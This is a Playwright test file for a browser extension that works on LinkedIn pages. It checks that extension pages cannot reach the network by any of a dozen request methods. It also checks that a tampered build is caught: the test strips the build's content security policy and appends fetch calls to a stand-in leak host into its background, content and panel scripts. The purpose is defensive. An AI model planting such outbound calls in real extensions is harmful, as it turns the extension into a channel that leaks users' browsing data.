import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from '@playwright/test';
import { findChromium } from '../../scripts/find-browser.mjs';
import { builtForChromium } from '../../scripts/open-extension.mjs';
import { demo, inBothBrowsers } from './both-browsers';
import { chromiumStage } from './chromium-stage';
import { type Surface, until } from './stage';
import { test } from './test';

const leak = 'https://leak.example/';

/**
 * What a page can ask the network with, each at a host of its own; what each way came to. Not frames and forms:
 * their policy holds too, but Chromium connects to the host before it looks (SECURITY.md).
 */
function tryAll(page: Surface): Promise<string[]> {
  return page.evaluate(async () => {
    const at = (way: string) => `https://${way}.leak.example/`;
    const loaded = (tag: string, fields: Record<string, string>) =>
      new Promise((resolve, reject) => {
        const element = Object.assign(document.createElement(tag), fields);
        element.onload = resolve;
        element.onerror = reject;
        document.body.append(element);
      });
    const opened = (socket: WebSocket | EventSource) =>
      new Promise((resolve, reject) => {
        socket.onopen = resolve;
        socket.onerror = reject;
      });
    const ways: Record<string, () => Promise<unknown>> = {
      fetch: () => fetch(at('fetch')),
      import: () => import(at('import')),
      socket: async () => opened(new WebSocket(at('socket').replace('https', 'wss'))),
      events: async () => opened(new EventSource(at('events'))),
      worker: () =>
        new Promise((resolve, reject) => {
          const worker = new Worker(at('worker'));
          worker.onmessage = resolve;
          worker.onerror = reject;
        }),
      image: () => loaded('img', { src: at('image') }),
      script: () => loaded('script', { src: at('script') }),
      style: () => loaded('link', { rel: 'stylesheet', href: at('style') }),
      video: () => loaded('video', { src: at('video') }),
      object: async () => void loaded('object', { data: at('object') }),
      // Says that it was queued, whatever comes of it.
      beacon: async () => void navigator.sendBeacon(at('beacon'), 'x'),
    };
    return Promise.all(
      Object.entries(ways).map(([name, way]) =>
        Promise.race([
          way().then(
            (got) => (got === undefined ? `${name} said nothing` : `${name} went through`),
            () => `${name} refused`,
          ),
          new Promise<string>((end) => setTimeout(() => end(`${name} silent`), 3_000)),
        ]),
      ),
    );
  });
}

inBothBrowsers(
  (stage) => {
    for (const name of ['dashboard.html', 'sidepanel.html']) {
      test(`${name} could not ask the network for anything if it tried`, async () => {
        const outcomes = await tryAll(await stage().openExtensionPage(name));
        expect(outcomes.filter((one) => one.endsWith('went through'))).toEqual([]);
        expect(await stage().strangeRequests()).toEqual([]);
      });
    }
  },
  async () => {},
);

test('a build that asks is caught: its worker, its page, its script beside a posting', async () => {
  const copy = mkdtempSync(join(tmpdir(), 'rolescope-leaking-'));
  try {
    cpSync(builtForChromium, copy, { recursive: true });
    const path = join(copy, 'manifest.json');
    const { content_security_policy: _, ...manifest } = JSON.parse(readFileSync(path, 'utf8'));
    writeFileSync(path, JSON.stringify(manifest));
    const ask = (who: string) => `;fetch('${leak}${who}').catch(() => {});`;
    appendFileSync(join(copy, 'background.js'), ask('background'));
    appendFileSync(join(copy, 'content-scripts', 'linkedin.js'), ask('content-script'));
    writeFileSync(join(copy, 'leak.js'), ask('panel'));
    const panel = join(copy, 'sidepanel.html');
    const html = readFileSync(panel, 'utf8').replace(
      '<head>',
      '<head><script src="/leak.js"></script>',
    );
    writeFileSync(panel, html);

    const stage = await chromiumStage(await findChromium(), { folder: copy });
    await stage.serve(demo.address, demo.html());
    await stage.open(demo.address);
    for (const who of ['background', 'content-script', 'panel']) {
      await until(`the request of the ${who}`, async () =>
        (await stage.strangeRequests()).find(
          (address) =>
            address.includes(who) || (who === 'background' && /^leak\.example:443/.test(address)),
        ),
      );
    }
    await expect(stage.close()).rejects.toThrow(/The network was asked/);
  } finally {
    rmSync(copy, { recursive: true, force: true });
  }
});
